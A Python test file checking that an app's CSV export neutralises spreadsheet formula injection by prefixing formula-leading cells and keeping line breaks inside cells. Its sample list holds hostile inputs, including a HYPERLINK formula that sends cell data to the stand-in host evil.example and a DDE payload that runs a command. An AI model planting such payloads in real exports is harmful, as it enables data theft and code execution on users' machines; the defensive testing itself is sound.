"""Every CSV the app offers is inert in a spreadsheet: no cell starts a formula."""

from __future__ import annotations

import csv
import io

import pandas as pd

from ui.exports import FORMULA_STARTS, inert_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def formula_led(cells) -> list[str]:
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_formula_nicknames_and_headings_are_exported_as_text():
    frame = pd.DataFrame({"nickname": FORMULAS, "=heading": ["x"] * len(FORMULAS)})
    rows = read_back(inert_csv(frame))
    assert not formula_led(cell for row in rows for cell in row), rows
    assert [row[0] for row in rows[1:]] == ["'" + text for text in FORMULAS]  # the text itself kept


def test_a_line_break_inside_a_cell_cannot_start_a_new_row():
    frame = pd.DataFrame({"nickname": ["ok\r=1+1", "ok\n@SUM(1)", "ok\r\n+1"]})
    rows = read_back(inert_csv(frame))
    assert [row[0] for row in rows[1:]] == list(frame["nickname"])


def test_numbers_and_plain_text_are_unchanged():
    frame = pd.DataFrame({"name": ["Ada", "学生 🧠", "<b>x</b>"], "score": [-1.5, 2.0, 99.95], "n": [-3, 0, 7]})
    rows = read_back(inert_csv(frame))
    assert rows[1:] == [["Ada", "-1.5", "-3"], ["学生 🧠", "2.0", "0"], ["<b>x</b>", "99.95", "7"]]
